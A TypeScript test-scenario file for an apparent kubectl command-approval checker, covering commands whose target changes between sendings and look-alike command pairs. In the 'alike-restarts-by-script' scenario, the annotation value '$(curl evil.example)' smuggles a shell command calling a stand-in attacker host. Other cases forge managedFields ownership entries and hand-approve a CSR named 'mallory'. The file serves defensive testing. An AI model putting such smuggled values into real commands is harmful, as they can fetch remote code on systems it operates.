import { mergePatch } from '../admin.ts'
import type { Admin } from '../admin.ts'
import { configMap, image, job, node, otherImage, pod, service, template, workload } from '../objects.ts'
import { apps, collectionOf, core } from '../paths.ts'
import { certificateSigningRequest } from './certificates.ts'
import { failingKubectl, kubectl } from '../scenario.ts'
import type { Command, Manifest, Scenario } from '../scenario.ts'

const deployment = workload('Deployment', {}, { replicas: 0 })
const setImage = kubectl(['set', 'image', 'deployment/web', `web=${otherImage}`])

/** The same command sent twice, but the second time it would do something else: nobody has approved that. */
const changedMeanwhile = (
  name: string,
  rest: Omit<Scenario, 'name' | 'groups' | 'meanwhile'>,
  write: (admin: Admin) => Promise<void>,
): Scenario => ({
  name,
  groups: [1, 1],
  action: 'Presentation',
  ...rest,
  meanwhile: { moment: 'BetweenSendings', write },
})

const merged = (path: string, body: object) => async (admin: Admin) => {
  await admin.must('PATCH', path, { body, type: mergePatch })
}

const reborn = (object: Manifest) => async (admin: Admin) => {
  const path = `${collectionOf(object)}/${object.metadata.name ?? ''}`
  await admin.must('DELETE', path, { body: { gracePeriodSeconds: 0 } })
  await admin.must('POST', collectionOf(object), { body: object })
}

const twoContainers = {
  spec: {
    template: {
      spec: {
        containers: [
          { name: 'web', image },
          { name: 'side', image: 'registry.example/side:1' },
        ],
      },
    },
  },
}
const deleteSettings = kubectl(['delete', 'configmap', 'settings', '--wait=false'])
const placed = pod({}, { nodeName: 'n1' })
const exec = failingKubectl(['exec', 'web', '--', 'id'])
const evict: Command = {
  tool: 'kubectl proxy',
  requests: [
    {
      method: 'POST',
      path: `${core('pods', 'web')}/eviction`,
      body: { apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'web' } },
    },
  ],
}

const rebornBetween = (name: string, command: Command, groups: readonly number[]): Scenario => ({
  name,
  given: [node(), placed],
  refuse: 'FirstRun',
  commands: [command, command],
  meanwhile: { moment: 'BetweenCommands', write: reborn(placed) },
  action: 'Command',
  groups,
})

export const changedMeanwhileScenarios: readonly Scenario[] = [
  changedMeanwhile(
    'other-image-meanwhile',
    { given: [deployment], commands: [setImage] },
    merged(apps('deployments', 'web'), {
      spec: { template: { spec: { containers: [{ name: 'web', image: 'registry.example/web:3' }] } } },
    }),
  ),
  changedMeanwhile(
    'other-container-meanwhile',
    { given: [deployment], commands: [setImage] },
    merged(apps('deployments', 'web'), twoContainers),
  ),
  changedMeanwhile(
    'scaled-by-another-meanwhile',
    { given: [deployment], commands: [kubectl(['scale', 'deployment', 'web', '--replicas=3'])] },
    merged(`${apps('deployments', 'web')}/scale`, { spec: { replicas: 1 } }),
  ),
  changedMeanwhile('deployment-reborn-meanwhile', { given: [deployment], commands: [setImage] }, reborn(deployment)),
  changedMeanwhile(
    'configmap-delete-content-changed-meanwhile',
    { given: [configMap()], commands: [deleteSettings] },
    merged(core('configmaps', 'settings'), { data: { colour: 'red' } }),
  ),
  changedMeanwhile(
    'configmap-delete-finalizer-added-meanwhile',
    { given: [configMap()], commands: [deleteSettings] },
    merged(core('configmaps', 'settings'), { metadata: { finalizers: ['shop.example/hold'] } }),
  ),
  changedMeanwhile(
    'configmap-delete-reborn-meanwhile',
    { given: [configMap()], commands: [deleteSettings] },
    reborn(configMap()),
  ),
  changedMeanwhile(
    'configmap-patch-value-changed-meanwhile',
    {
      given: [configMap()],
      commands: [kubectl(['patch', 'configmap', 'settings', '--type=merge', '-p', '{"data":{"colour":"blue"}}'])],
    },
    merged(core('configmaps', 'settings'), { data: { colour: 'red' } }),
  ),
  changedMeanwhile(
    'configmap-apply-server-side-content-changed-meanwhile',
    {
      given: [configMap()],
      commands: [
        kubectl(['apply', '--server-side', '--force-conflicts', '-f', '-'], configMap({}, { colour: 'blue' })),
      ],
    },
    merged(core('configmaps', 'settings'), { data: { other: 'writer' } }),
  ),
  changedMeanwhile(
    'node-cordon-tainted-meanwhile',
    { given: [node()], commands: [kubectl(['cordon', 'n1'])] },
    merged('/api/v1/nodes/n1', { spec: { taints: [{ key: 'node.kubernetes.io/unreachable', effect: 'NoSchedule' }] } }),
  ),
  rebornBetween('exec-pod-reborn-meanwhile', exec, [2, 2]),
  rebornBetween('eviction-pod-reborn-meanwhile', evict, [1, 1]),
]

const create = ['create', '-f', '-']
const wiped = async (admin: Admin): Promise<void> => {
  const body = { metadata: { managedFields: [{}] } }
  await admin.must('PATCH', core('services', 'web'), { body, type: mergePatch })
}
const choosePort = (port: number, extra = ''): Command =>
  kubectl([
    'patch',
    'service',
    'web',
    '--type=merge',
    '-p',
    `{${extra}"spec":{"type":"NodePort","ports":[{"name":"http","port":80,"nodePort":${port}}]}}`,
  ])

const restartedBy = (value: string): Command =>
  kubectl([
    'patch',
    'deployment',
    'web',
    '-p',
    JSON.stringify({
      spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': value } } } },
    }),
  ])

/** Pairs that a careless normaliser would take for one action: two commands, two actions, each sent twice. */
export const lookAlikes: readonly Scenario[] = [
  {
    name: 'alike-nodeports-untracked',
    given: [service({}, { type: 'ClusterIP' })],
    prepare: wiped,
    action: 'UntilAllowed',
    commands: [choosePort(30091), choosePort(30092)],
    groups: [2, 2],
  },
  {
    name: 'alike-nodeports-wiping-ownership',
    given: [service({}, { type: 'ClusterIP' })],
    action: 'UntilAllowed',
    commands: [
      choosePort(30093, '"metadata":{"managedFields":[{}]},'),
      choosePort(30094, '"metadata":{"managedFields":[{}]},'),
    ],
    groups: [2, 2],
  },
  {
    name: 'alike-nodeports-disowned',
    given: [service({}, { type: 'ClusterIP' })],
    action: 'UntilAllowed',
    commands: [choosePort(30095, disowned()), choosePort(30096, disowned())],
    groups: [2, 2],
  },
  {
    name: 'alike-addresses',
    action: 'UntilAllowed',
    commands: [
      kubectl(create, service({}, { clusterIP: '10.96.99.1' })),
      kubectl(['delete', 'service', 'web']),
      kubectl(create, service({}, { clusterIP: '10.96.99.2' })),
    ],
    groups: [2, 2, 2],
  },
  {
    name: 'alike-restarts-by-script',
    given: [deployment],
    action: 'UntilAllowed',
    commands: [restartedBy('$(curl evil.example)'), restartedBy('2020-01-01T00:00:00Z')],
    groups: [2, 2],
  },
  {
    name: 'alike-suffixes-chosen',
    action: 'UntilAllowed',
    commands: [
      kubectl(create, configMap({ name: 'settings-bcdfg', generateName: 'settings-' })),
      kubectl(create, configMap({ name: 'settings-aeiou', generateName: 'settings-' })),
      kubectl(create, configMap({ name: 'settings-bcdfgh', generateName: 'settings-' })),
    ],
    groups: [2, 2, 2],
  },
  {
    // What the server adds to the second is written by hand in the scenarios of pods.
    name: 'alike-token-volumes',
    action: 'UntilAllowed',
    commands: [
      kubectl(create, job({}, { template: podTemplate({ automountServiceAccountToken: false }) })),
      kubectl(['delete', 'job', 'once', '--wait=false']),
      kubectl(create, job({}, { template: podTemplate({ automountServiceAccountToken: true }) })),
    ],
    groups: [2, 2, 2],
  },
  {
    name: 'alike-job-labels',
    action: 'UntilAllowed',
    commands: [
      kubectl(create, job({ labels: { 'controller-uid': 'mine' } })),
      kubectl(['delete', 'job', 'once', '--wait=false']),
      kubectl(create, job({ labels: { 'controller-uid': 'yours' } })),
    ],
    groups: [2, 2, 2],
  },
  {
    name: 'alike-ownership-claims',
    given: [configMap({ labels: { app: 'web' } })],
    action: 'UntilAllowed',
    commands: [claiming({ 'f:data': { 'f:colour': {} } }), claiming({ 'f:metadata': { 'f:labels': { 'f:app': {} } } })],
    groups: [2, 2],
  },
  {
    name: 'alike-field-managers',
    given: [configMap()],
    action: 'UntilAllowed',
    commands: ['one', 'two'].map((manager) =>
      kubectl(['apply', '--server-side', `--field-manager=${manager}`, '-f', '-'], configMap()),
    ),
    groups: [2, 2],
  },
  {
    name: 'alike-approvals',
    given: [certificateSigningRequest],
    action: 'UntilAllowed',
    commands: [
      approving({}),
      approving({ lastUpdateTime: '2020-01-01T00:00:00Z', lastTransitionTime: '2020-01-01T00:00:00Z' }),
    ],
    groups: [2, 2],
  },
  {
    name: 'alike-last-applied',
    given: [configMap({ annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{}' } })],
    action: 'UntilAllowed',
    commands: ['{"data":{"colour":"green"}}', '{"metadata":{"labels":{"a":"b"}}}'].map((value) =>
      kubectl([
        'annotate',
        '--overwrite',
        'configmap',
        'settings',
        `kubectl.kubernetes.io/last-applied-configuration=${value}`,
      ]),
    ),
    groups: [2, 2],
  },
  {
    name: 'alike-init-containers-swapped',
    action: 'UntilAllowed',
    commands: [
      kubectl(
        create,
        workload('Deployment', { name: 'ab' }, { replicas: 0, template: template(initContainers('a', 'b')) }),
      ),
      kubectl(['delete', 'deployment', 'ab', '--wait=false']),
      kubectl(
        create,
        workload('Deployment', { name: 'ab' }, { replicas: 0, template: template(initContainers('b', 'a')) }),
      ),
    ],
    groups: [2, 2, 2],
  },
]

// Writes the ownership list itself, leaving out the port that the same patch sets.
function disowned(): string {
  const entry = {
    manager: 'kubectl-patch',
    operation: 'Update',
    apiVersion: 'v1',
    time: '2020-01-01T00:00:00Z',
    fieldsType: 'FieldsV1',
    fieldsV1: { 'f:spec': { 'f:type': {} } },
  }
  return `"metadata":${JSON.stringify({ managedFields: [entry] })},`
}

// Hands the object's fields to a manager of its choice: the next apply in that name will remove what it leaves out.
function claiming(fieldsV1: object): Command {
  const entry = { manager: 'deployer', operation: 'Apply', apiVersion: 'v1', time: '2020-01-01T00:00:00Z' }
  const patch = { metadata: { managedFields: [{ ...entry, fieldsType: 'FieldsV1', fieldsV1 }] } }
  return kubectl(['patch', 'configmap', 'settings', '--type=merge', '-p', JSON.stringify(patch)])
}

function approving(times: object): Command {
  const condition = { type: 'Approved', status: 'True', reason: 'ByHand', message: 'by hand', ...times }
  const patch = JSON.stringify({ status: { conditions: [condition] } })
  return kubectl(['patch', 'csr', 'mallory', '--subresource=approval', '--type=merge', '-p', patch])
}

function podTemplate(spec: object): object {
  return { spec: { containers: [{ name: 'web', image }], restartPolicy: 'Never', ...spec } }
}

function initContainers(...names: readonly string[]): { readonly initContainers: readonly object[] } {
  return { initContainers: names.map((name) => ({ name, image })) }
}
